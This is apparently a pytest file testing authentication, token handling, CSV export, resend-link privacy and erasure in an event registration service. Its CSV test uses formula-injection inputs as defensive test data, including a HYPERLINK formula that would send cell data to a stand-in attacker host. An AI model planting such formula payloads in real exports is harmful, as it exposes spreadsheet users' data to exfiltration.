"""Who may call what: organiser tokens (env and CLI, hashed, revocable), participant tokens,
the organiser listing and CSV, "resend my link", export and erasure."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.engine import make_url

from shared.auth import ParticipantTokens, hash_token
from tests.helpers import ORGANISER_TOKEN, bearer

ORGANISER = bearer(ORGANISER_TOKEN)


def outbox_rows(registration_app: Any, task_name: str | None = None) -> list[Any]:
    from services.registration.extensions import db
    from services.registration.models import Outbox

    with registration_app.app_context():
        query = select(Outbox).order_by(Outbox.seq)
        if task_name is not None:
            query = query.where(Outbox.task_name == task_name)
        return list(db.session.scalars(query).all())


def assert_401(response: Any) -> None:
    assert response.status_code == 401, response.get_data(as_text=True)
    assert response.headers["WWW-Authenticate"].lower().startswith("bearer")
    body = response.get_json()
    assert body["code"] == 401 and body["message"]


@pytest.fixture
def event(make_event, make_session) -> dict[str, Any]:
    event = make_event()
    make_session(event["slug"], code="S1", capacity=1)
    make_session(event["slug"], code="S2", capacity=None)
    return event


def organiser_calls(slug: str) -> list[tuple[str, str, Any]]:
    return [
        ("post", "/api/v1/events", {"slug": "x"}),
        ("post", f"/api/v1/events/{slug}/sessions", {"code": "X"}),
        ("patch", f"/api/v1/events/{slug}/sessions/S1", {"capacity": 50}),
        ("get", f"/api/v1/events/{slug}/registrations", None),
        ("get", f"/api/v1/events/{slug}/registrations?format=csv", None),
    ]


def participant_calls() -> list[tuple[str, str, Any]]:
    return [
        ("get", "/api/v1/registrations/me", None),
        ("delete", "/api/v1/registrations/me", None),
        ("post", "/api/v1/registrations/me/sessions", {"code": "S2"}),
        ("delete", "/api/v1/registrations/me/sessions/S1", None),
        ("get", "/api/v1/registrations/me/export", None),
        ("post", "/api/v1/registrations/me/erase", None),
    ]


def call(
    registration_client: Any, method: str, path: str, body: Any, headers: dict[str, str] | None
) -> Any:
    return getattr(registration_client, method)(path, json=body, headers=headers or {})


BAD_HEADERS = {
    "none": None,
    "empty bearer": {"Authorization": "Bearer "},
    "wrong token": bearer("not-the-organiser-token-0123456789"),
    "basic scheme": {"Authorization": f"Basic {ORGANISER_TOKEN}"},
    "token without scheme": {"Authorization": ORGANISER_TOKEN},
    "token with a suffix": bearer(ORGANISER_TOKEN + "x"),
    "non-ascii": {"Authorization": "Bearer ünïcödé"},
}


@pytest.mark.parametrize("headers", list(BAD_HEADERS.values()), ids=list(BAD_HEADERS))
def test_organiser_endpoints_refuse_a_missing_or_wrong_token(registration_client, event, headers):
    for method, path, body in organiser_calls(event["slug"]):
        assert_401(call(registration_client, method, path, body, headers))
    session = registration_client.get(f"/api/v1/events/{event['slug']}/sessions/S1").get_json()
    assert session["capacity"] == 1


def test_the_organiser_token_from_the_settings_works(registration_client, event):
    response = registration_client.patch(
        f"/api/v1/events/{event['slug']}/sessions/S1", json={"capacity": 5}, headers=ORGANISER
    )
    assert response.status_code == 200
    listing = registration_client.get(
        f"/api/v1/events/{event['slug']}/registrations", headers=ORGANISER
    )
    assert listing.status_code == 200
    lower = {"Authorization": f"bearer   {ORGANISER_TOKEN}"}
    assert (
        registration_client.get(
            f"/api/v1/events/{event['slug']}/registrations", headers=lower
        ).status_code
        == 200
    )


def database_text(registration_app: Any, url: str) -> str:
    """Everything the database holds that a token could hide in, as text."""
    from services.registration.extensions import db
    from services.registration.models import Base

    parts = []
    with registration_app.app_context():
        for table in Base.metadata.sorted_tables:
            for row in db.session.execute(select(table)).all():
                parts.append(json.dumps([str(v) for v in row]))
    parsed = make_url(url)
    if parsed.get_backend_name() == "sqlite":
        for suffix in ("", "-wal", "-journal"):
            path = Path(f"{parsed.database}{suffix}")
            if path.exists():
                parts.append(path.read_bytes().decode("latin-1"))
    return "\n".join(parts)


def test_a_cli_token_works_is_stored_hashed_and_can_be_revoked(
    registration_app, registration_client, event, registration_db
):
    from services.registration.extensions import db
    from services.registration.models import OrganiserToken

    runner = registration_app.test_cli_runner()
    result = runner.invoke(args=["organiser", "create-token", "alice"])
    assert result.exit_code == 0, result.output
    token = result.output.strip().splitlines()[-1]
    assert len(token) >= 32
    other = runner.invoke(args=["organiser", "create-token", "bob"]).output.strip().splitlines()[-1]

    listing = f"/api/v1/events/{event['slug']}/registrations"
    assert registration_client.get(listing, headers=bearer(token)).status_code == 200
    assert registration_client.get(listing, headers=bearer(other)).status_code == 200

    with registration_app.app_context():
        rows = db.session.scalars(select(OrganiserToken).order_by(OrganiserToken.id)).all()
        assert [(r.name, r.token_hash, r.revoked_at) for r in rows] == [
            ("alice", hash_token(token), None),
            ("bob", hash_token(other), None),
        ]
    stored = database_text(registration_app, registration_db)
    assert token not in stored and other not in stored
    assert hash_token(token) in stored

    result = runner.invoke(args=["organiser", "revoke-token", "alice"])
    assert result.exit_code == 0, result.output
    assert "1" in result.output
    assert_401(registration_client.get(listing, headers=bearer(token)))
    assert registration_client.get(listing, headers=bearer(other)).status_code == 200
    assert registration_client.get(listing, headers=ORGANISER).status_code == 200
    # The hash itself is not a token.
    assert_401(registration_client.get(listing, headers=bearer(hash_token(other))))


def test_no_organiser_token_in_the_settings_means_only_cli_tokens(settings, registration_db):
    import dataclasses

    from services.registration.app import create_app

    registration_app = create_app(
        {
            "TESTING": True,
            "SETTINGS": dataclasses.replace(
                settings, registration_database_url=registration_db, organiser_token=None
            ),
        }
    )
    registration_client = registration_app.test_client()
    assert_401(registration_client.get("/api/v1/events/x/registrations", headers=ORGANISER))
    assert_401(
        registration_client.get(
            "/api/v1/events/x/registrations", headers={"Authorization": "Bearer"}
        )
    )
    token = (
        registration_app.test_cli_runner()
        .invoke(args=["organiser", "create-token", "ops"])
        .output.strip()
    )
    assert (
        registration_client.get("/api/v1/events/x/registrations", headers=bearer(token)).status_code
        == 404
    )


# --- participant tokens -----------------------------------------------------------------------


def participant_headers(token: str) -> dict[str, dict[str, str] | None]:
    forged = ParticipantTokens("another-secret-key-0123456789abcdef")
    registration_id, version = ParticipantTokens("x" * 32)._serializer.loads_unsafe(token)[1]
    return {
        "none": None,
        "garbage": bearer("garbage"),
        "garbage with a dot": bearer("abc.def"),
        "tampered": bearer(token[:-2] + ("AA" if token[-2:] != "AA" else "BB")),
        "signed with another SECRET_KEY": bearer(forged.sign(registration_id, version)),
        "older token version": bearer(
            ParticipantTokens("test-secret-key-0123456789abcdef").sign(registration_id, version + 1)
        ),
        "organiser token": ORGANISER,
        "basic scheme": {"Authorization": f"Basic {token}"},
    }


def test_participant_endpoints_refuse_a_missing_or_bad_token(registration_client, event, register):
    token = register(event["slug"], ["S1"]).get_json()["manage_token"]
    for name, headers in participant_headers(token).items():
        for method, path, body in participant_calls():
            response = call(registration_client, method, path, body, headers)
            assert response.status_code == 401, (name, method, path, response.get_json())
            assert_401(response)
    me = registration_client.get("/api/v1/registrations/me", headers=bearer(token)).get_json()
    assert me["status"] == "active"
    assert me["sessions"] == [
        {"code": "S1", "status": "confirmed", "waitlist_position": None, "hold_expires_at": None}
    ]


def test_a_participant_token_is_not_an_organiser_token(registration_client, event, register):
    token = register(event["slug"], ["S1"]).get_json()["manage_token"]
    for method, path, body in organiser_calls(event["slug"]):
        assert_401(call(registration_client, method, path, body, bearer(token)))


def test_after_erasure_the_old_token_is_refused(registration_client, event, register):
    token = register(event["slug"], ["S1"]).get_json()["manage_token"]
    assert (
        registration_client.post(
            "/api/v1/registrations/me/erase", headers=bearer(token)
        ).status_code
        == 202
    )
    for method, path, body in participant_calls():
        assert_401(call(registration_client, method, path, body, bearer(token)))


def test_a_token_from_another_registration_sees_only_its_own(registration_client, event, register):
    first = register(event["slug"], ["S1"], name="First").get_json()
    second = register(event["slug"], ["S2"], name="Second").get_json()
    me = registration_client.get(
        "/api/v1/registrations/me", headers=bearer(second["manage_token"])
    ).get_json()
    assert (me["id"], me["name"]) == (second["id"], "Second")
    assert first["manage_token"] != second["manage_token"]


# --- the organiser listing --------------------------------------------------------------------


def test_the_organiser_listing_in_json(registration_client, event, register):
    register(event["slug"], ["S1"], name="Ana", email="ana@example.org")
    register(event["slug"], ["S1", "S2"], name="Bram", email="bram@example.org", country="nl")
    response = registration_client.get(
        f"/api/v1/events/{event['slug']}/registrations", headers=ORGANISER
    )
    assert response.status_code == 200 and response.mimetype == "application/json"
    rows = response.get_json()
    assert [r["name"] for r in rows] == ["Ana", "Bram"]
    assert set(rows[0]) >= {
        "id", "event", "name", "email", "organisation", "city", "country", "role", "language",
        "status", "consent_at", "created_at", "cancelled_at", "sessions",
    }  # fmt: skip
    assert rows[1]["country"] == "NL" and rows[1]["event"] == event["slug"]
    assert rows[1]["sessions"] == [
        {"code": "S1", "status": "waitlisted", "waitlist_position": 1, "hold_expires_at": None},
        {"code": "S2", "status": "confirmed", "waitlist_position": None, "hold_expires_at": None},
    ]


def test_the_organiser_listing_in_csv(registration_client, event, register):
    register(event["slug"], ["S1"], name="Ana", email="ana@example.org")
    register(
        event["slug"],
        ["S1", "S2"],
        name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        email="eve@example.org",
        organisation="+32 2 000",
        city="@SUM(1+1)",
    )
    response = registration_client.get(
        f"/api/v1/events/{event['slug']}/registrations?format=csv", headers=ORGANISER
    )
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert ".csv" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    header, *body = rows
    assert {"id", "name", "email", "country", "role", "confirmed", "waitlisted"} <= set(header)
    assert len(body) == 2
    records = [dict(zip(header, row, strict=True)) for row in body]
    assert records[0]["name"] == "Ana" and records[0]["confirmed"] == "S1"
    evil = records[1]
    for column in header:
        assert evil[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, evil[column])
    assert evil["name"].lstrip("'").startswith("=HYPERLINK(")
    assert evil["organisation"].lstrip("'") == "+32 2 000"
    assert evil["confirmed"] == "S2" and evil["waitlisted"] == "S1#1"


def test_an_empty_listing_in_csv_has_its_header(registration_client, event):
    response = registration_client.get(
        f"/api/v1/events/{event['slug']}/registrations?format=csv", headers=ORGANISER
    )
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 1 and "email" in rows[0]


def test_an_unknown_listing_format_is_a_422(registration_client, event):
    response = registration_client.get(
        f"/api/v1/events/{event['slug']}/registrations?format=xml", headers=ORGANISER
    )
    assert response.status_code == 422
    assert "format" in response.get_json()["errors"]["query"]


# --- resend my link ---------------------------------------------------------------------------


def test_resend_link_answers_the_same_for_known_and_unknown_emails(
    registration_app, registration_client, event, register
):
    register(event["slug"], ["S1"], email="known@example.org")
    path = f"/api/v1/events/{event['slug']}/registrations/resend-link"
    before = len(outbox_rows(registration_app))

    unknown = registration_client.post(path, json={"email": "stranger@example.org"})
    assert unknown.status_code == 202
    assert len(outbox_rows(registration_app)) == before

    known = registration_client.post(path, json={"email": " KNOWN@example.org"})
    assert known.status_code == 202
    assert known.get_json() == unknown.get_json()
    assert known.headers.get("Content-Type") == unknown.headers.get("Content-Type")
    (row,) = outbox_rows(registration_app, "registration.link_requested")
    assert row.payload["participant"]["email"] == "known@example.org"
    assert len(outbox_rows(registration_app)) == before + 1


def test_resend_link_for_an_email_registered_to_another_event_sends_nothing(
    registration_app, registration_client, make_event, event, register
):
    other = make_event()
    register(other["slug"], [], email="elsewhere@example.org")
    path = f"/api/v1/events/{event['slug']}/registrations/resend-link"
    assert (
        registration_client.post(path, json={"email": "elsewhere@example.org"}).status_code == 202
    )
    assert outbox_rows(registration_app, "registration.link_requested") == []


# --- export and erasure -----------------------------------------------------------------------


def test_export_holds_my_data_and_sessions(registration_client, event, register):
    created = register(
        event["slug"], ["S1", "S2"], name="Ana Export", email="ana.export@example.org"
    ).get_json()
    response = registration_client.get(
        "/api/v1/registrations/me/export", headers=bearer(created["manage_token"])
    )
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "Ana Export" in text and "ana.export@example.org" in text
    data = response.get_json()["services"]["registration"]
    assert data["registration"]["id"] == created["id"]
    assert data["registration"]["consent_at"]
    assert sorted(s["code"] for s in data["sessions"]) == ["S1", "S2"]


def test_erasure_frees_the_seat_promotes_the_next_and_tells_the_others(
    registration_app, registration_client, event, register
):
    slug = event["slug"]
    gone = register(slug, ["S1", "S2"], name="Erin Erased", email="erin@example.org").get_json()
    waiting = register(slug, ["S1"], name="Walt Waiting").get_json()
    assert waiting["sessions"][0]["status"] == "waitlisted"

    response = registration_client.post(
        "/api/v1/registrations/me/erase", headers=bearer(gone["manage_token"])
    )
    assert response.status_code == 202
    assert "erased" in response.get_json()["message"].lower()

    rows = registration_client.get(
        f"/api/v1/events/{slug}/registrations", headers=ORGANISER
    ).get_json()
    assert [r["name"] for r in rows] == ["Walt Waiting"]
    assert rows[0]["sessions"] == [
        {"code": "S1", "status": "confirmed", "waitlist_position": None, "hold_expires_at": None}
    ]
    programme = {
        r["code"]: r for r in registration_client.get(f"/api/v1/events/{slug}/sessions").get_json()
    }
    assert (programme["S1"]["seats_taken"], programme["S1"]["waitlist_length"]) == (1, 0)
    assert programme["S2"]["seats_taken"] == 0

    (erased,) = outbox_rows(registration_app, "registration.erased")
    payload = json.dumps(erased.payload).lower()
    assert erased.payload["registration_id"] == gone["id"]
    assert "erin" not in payload and "example.org" not in payload
    promoted = [
        r
        for r in outbox_rows(registration_app)
        if r.payload.get("participant", {}).get("name") == "Walt Waiting"
    ]
    assert any("promot" in r.task_name for r in promoted), [r.task_name for r in promoted]
    # The email is free again: the same person may register anew.
    assert register(slug, [], email="erin@example.org").status_code == 201


def test_which_endpoints_could_answer_403(registration_client, event, register):
    """No registration endpoint has an "authenticated but not allowed" case: an organiser token
    is all-powerful, and a participant token only ever reaches its own registration (no id in
    the path). So a participant token on an organiser call is a 401, not a 403."""
    token = register(event["slug"], ["S1"]).get_json()["manage_token"]
    listing = f"/api/v1/events/{event['slug']}/registrations"
    assert registration_client.get(listing, headers=bearer(token)).status_code == 401
